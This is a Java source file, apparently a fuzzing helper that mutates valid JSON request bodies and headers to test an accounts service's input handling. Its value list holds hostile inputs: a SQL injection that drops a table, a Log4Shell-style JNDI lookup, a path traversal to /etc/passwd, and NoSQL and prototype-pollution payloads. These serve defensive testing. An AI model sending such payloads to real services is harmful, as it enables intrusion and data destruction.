package app.synth.accounts.access;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.zip.GZIPOutputStream;

/** Bodies that nobody should send, each made of one that is right. */
record HostileBodies(Random random) {
    private static final int PAST_THE_LIMIT = 5 * 1024 * 1024;
    private static final String PLACE = "@here@";
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final List<String> VALUES = List.of(
            "null",
            "true",
            "-1",
            "0.1",
            "1e999",
            "-1e-999999999",
            "1e2147483648",
            "9".repeat(1_200),
            "9223372036854775808",
            "\"\"",
            "\" \"",
            "\"\\u0000\"",
            "\"a\\u0000b\"",
            "\"\\ud800\"",
            "\"\\udc00x\"",
            "\"\\uD83D\\uDE00\"",
            "\"\\u202e\\ufeff\\u2028\"",
            "[]",
            "{}",
            "[null]",
            "[[[[[]]]]]",
            "[\"a\",\"a\",1,{}]",
            "{\"a\":{\"a\":1,\"a\":2}}",
            "{\"\\u0000\":1}",
            "{\"\":{}}",
            "{\"$ne\":null}",
            "{\"__proto__\":{\"state\":\"approved\"}}",
            "\"" + "x".repeat(70_000) + "\"",
            "[".repeat(900) + "]".repeat(900),
            "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000),
            "\"2026-99-99T99:99:99Z\"",
            "\"+999999999-12-31T23:59:59Z\"",
            "\"-0001-01-01T00:00:00Z\"",
            "\"'; drop table accounts.profiles; --\"",
            "\"${jndi:ldap://x.test/a}\"",
            "\"%s%n{}{0}\"",
            "\"../../etc/passwd\"",
            "\"<script>\"",
            "\"00000000-0000-0000-0000-000000000000\"",
            "\"1-1-1-1-1\"",
            "\"NaN\"",
            "NaN",
            "'single'",
            "0x10",
            "01");
    private static final List<Charset> ENCODINGS = List.of(
            StandardCharsets.UTF_16, StandardCharsets.UTF_16LE, StandardCharsets.ISO_8859_1, Charset.forName("UTF-32"));

    /** Headers that do not say what the body is; most often they do. */
    Map<String, String> headers(String contentType) {
        return switch (random.nextInt(24)) {
            case 0 -> Map.of();
            case 1 -> Map.of("Content-Type", "text/plain");
            case 2 -> Map.of("Content-Type", "application/xml");
            case 3 -> Map.of("Content-Type", "application/x-www-form-urlencoded");
            case 4 -> Map.of("Content-Type", "multipart/form-data; boundary=x");
            case 5 -> Map.of("Content-Type", contentType + "; charset=utf-16");
            case 6 -> Map.of("Content-Type", contentType + "; charset=no-such");
            case 7 -> Map.of("Content-Type", "nonsense");
            case 8 -> Map.of("Content-Type", contentType, "Content-Encoding", "gzip");
            case 9 -> Map.of("Content-Type", contentType, "Accept", "image/png");
            default -> Map.of("Content-Type", contentType);
        };
    }

    byte[] body(String right) {
        byte[] bytes = right.getBytes(StandardCharsets.UTF_8);
        return switch (random.nextInt(20)) {
            case 0 -> Arrays.copyOf(bytes, random.nextInt(bytes.length));
            case 1 -> gzip(bytes);
            case 2 -> right.replaceFirst("\\{", "{\"é\": 1, ").getBytes(any(ENCODINGS));
            case 3 -> noise();
            case 4 -> "[".repeat(random.nextInt(1, 50_000)).getBytes(StandardCharsets.UTF_8);
            case 5 -> {
                bytes[random.nextInt(bytes.length)] = (byte) random.nextInt(0x80, 0x100); // half a character
                yield bytes;
            }
            case 6 -> any(VALUES).getBytes(StandardCharsets.UTF_8);
            case 7 -> (right + any(VALUES)).getBytes(StandardCharsets.UTF_8);
            case 8 -> random.nextInt(10) == 0 ? large(right) : new byte[] {0};
            case 9, 10 -> twice(right).getBytes(StandardCharsets.UTF_8);
            case 11, 12 ->
                right.replaceFirst("\\{", "{\"unasked\": " + quoted(any(VALUES)) + ", ")
                        .getBytes(StandardCharsets.UTF_8);
            default -> replaced(right).getBytes(StandardCharsets.UTF_8);
        };
    }

    /** One value, wherever it stands, is another. */
    private String replaced(String right) {
        try {
            JsonNode root = JSON.readTree(right);
            List<Runnable> places = new ArrayList<>();
            collect(root, places);
            any(places).run();
            return root.toString().replace("\"" + PLACE + "\"", any(VALUES));
        } catch (JsonProcessingException impossible) {
            throw new IllegalArgumentException(right, impossible);
        }
    }

    private static void collect(JsonNode node, List<Runnable> places) {
        if (node instanceof ObjectNode object) {
            object.properties().forEach(field -> {
                places.add(() -> object.put(field.getKey(), PLACE));
                collect(field.getValue(), places);
            });
        } else if (node instanceof ArrayNode array) {
            for (int i = 0; i < array.size(); i++) {
                int place = i;
                places.add(() -> array.set(place, PLACE));
                collect(array.get(i), places);
            }
        }
    }

    /** Its first field stands there twice. */
    private String twice(String right) {
        String name = right.substring(1, right.indexOf(':'));
        return "{" + name + ": " + any(VALUES) + ", " + right.substring(1);
    }

    private byte[] large(String right) {
        String filling = random.nextBoolean()
                ? " ".repeat(PAST_THE_LIMIT)
                : "\"unasked\": \"" + "x".repeat(PAST_THE_LIMIT) + "\", ";
        return right.replaceFirst("\\{", "{" + filling).getBytes(StandardCharsets.UTF_8);
    }

    private byte[] noise() {
        byte[] noise = new byte[random.nextInt(1, 2_000)];
        random.nextBytes(noise);
        return noise;
    }

    private static byte[] gzip(byte[] bytes) {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
            gzip.write(bytes);
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return packed.toByteArray();
    }

    private static String quoted(String replacement) {
        return Matcher.quoteReplacement(replacement);
    }

    private <T> T any(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }
}
